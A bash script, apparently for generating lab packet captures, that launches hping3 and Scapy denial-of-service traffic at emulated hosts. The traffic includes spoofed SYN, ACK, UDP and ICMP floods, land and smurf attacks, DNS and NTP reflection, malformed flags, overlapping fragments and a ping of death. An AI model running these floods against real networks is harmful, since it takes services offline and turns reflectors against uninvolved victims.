# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0-or-later
# More than a host can bear, and packets that nobody would send.

# A victim that answers only while its queue of half-open connections has room, as most do without SYN cookies.
weak_web() {
    on victim sysctl -qw net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=64 net.core.somaxconn=64
    web victim
}

# hping3's random sources, moved to 10.128.0.0/9.
random_sources() {
    spoof_net attacker 0.127.255.255 10.128.0.0 ip daddr 10.9.0.20
}

flood() {
    try on attacker hping3 -q "$@"
}

make_syn_flood_random() {
    weak_web
    random_sources
    listen
    flood -S -p 80 --rand-source -i u1000 -c 1000 10.9.0.20
}

make_syn_flood_cookies() {
    web victim
    on victim sysctl -qw net.ipv4.tcp_syncookies=2
    random_sources
    listen
    flood -S -p 80 --rand-source -i u1000 -c 400 10.9.0.20
}

make_syn_flood_one_source() {
    weak_web
    on attacker nft -f - <<<'table ip quiet { chain output { type filter hook output priority 0; tcp flags rst drop; }; }'
    listen
    flood -S -p 80 -i u1000 -c 500 10.9.0.20
}

make_icmp_flood() {
    listen
    flood -1 -i u500 -c 500 10.9.0.20
}

make_udp_flood() {
    listen
    flood -2 -p 9 -d 64 -i u500 -c 600 10.9.0.20
}

make_udp_flood_ports() {
    listen
    flood -2 -p ++1000 -i u1000 -c 600 10.9.0.20
}

make_ack_flood_random() {
    web victim
    random_sources
    listen
    flood -A -p 80 --rand-source -i u1000 -c 400 10.9.0.20
}

make_land() {
    web victim
    listen
    flood -S -a 10.9.0.20 -s 80 -k -p 80 -c 10 -i u100000 10.9.0.20
}

make_smurf() {
    local one
    for one in client other victim; do
        on "$one" sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0
    done
    listen
    flood -1 -a 10.9.0.20 -i u20000 -c 100 10.9.0.255
}

make_bogus_sources() {
    local source
    listen
    for source in 10.9.0.255 255.255.255.255 224.0.0.5 127.0.0.1 0.0.0.1 240.1.2.3; do
        flood -S -p 80 -a "$source" -c 3 -i u100000 10.9.0.20
    done
}

make_odd_flags() {
    local flags
    web victim
    listen
    for flags in -FPU -SF -F -SFRPAU -SR -XY ''; do
        # shellcheck disable=SC2086
        flood $flags -p 80 -c 3 -i u50000 10.9.0.20
    done
}

# A DNS question of type TXT for big.example.test, with an EDNS size of 4096.
big_question() {
    printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x07example\x04test\x00\x00\x10\x00\x01'
    printf '\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00'
}

# reflect HPING3OPTION…: in the victim's name to hosts of 198.51.100.0/24.
reflect() {
    flood -a 10.9.0.20 -i u10000 -c 300 -I eth0 --rand-dest "$@" 198.51.100.x
}

make_reflection_dns() {
    mapfile -t texts < <(big_text)
    name_server far --edns-packet-max=4096 "${texts[@]}"
    big_question >"$work/question"
    watch=victim
    listen
    reflect -2 -p 53 -E "$work/question" -d "$(stat -c %s "$work/question")"
}

make_reflection_ntp() {
    clock far
    { printf '\x23' && head -c 47 /dev/zero; } >"$work/question"
    watch=victim
    listen
    reflect -2 -p 123 -E "$work/question" -d 48
}

make_reflection_syn_ack() {
    web far
    watch=victim
    listen
    reflect -S -p 80
}

make_reflection_both_views() {
    web far
    listen
    reflect -S -p 80
}

# Somebody floods 192.0.2.80 with our addresses as sources; we see what it answers.
make_backscatter_open() {
    web far
    listen
    for number in 10 11 20 66; do
        try on back10 hping3 -q -S -p 80 -a "10.9.0.$number" -i u10000 -c 60 192.0.2.80
    done
}

make_backscatter_closed() {
    listen
    for number in 10 11 20 66; do
        try on back10 hping3 -q -S -p 81 -a "10.9.0.$number" -i u10000 -c 60 192.0.2.80
    done
}

make_fragments_tiny() {
    web victim
    listen
    flood -S -p 80 -f -d 64 -c 10 -i u100000 10.9.0.20
}

scapy_sends() {
    try on attacker /usr/bin/python3 -c "
from scapy.all import *
conf.verb = 0
$1"
}

make_fragments_overlapping() {
    listen
    scapy_sends "
data = bytes(ICMP(id=7, seq=1) / (b'a' * 1200))
first = IP(dst='10.9.0.20', id=4711, proto=1, flags='MF') / Raw(data[:800])
second = IP(dst='10.9.0.20', id=4711, proto=1, frag=50) / Raw(b'b' * 600)  # begins at 400
send([first, second])"
}

make_ping_of_death() {
    listen
    scapy_sends "
data = bytes(ICMP(id=7, seq=1) / (b'x' * 65600))
step = 1480
send([IP(dst='10.9.0.20', id=4712, proto=1, flags='MF' if at + step < len(data) else 0, frag=at // 8) / Raw(data[at:at + step])
      for at in range(0, len(data), step)])"
}
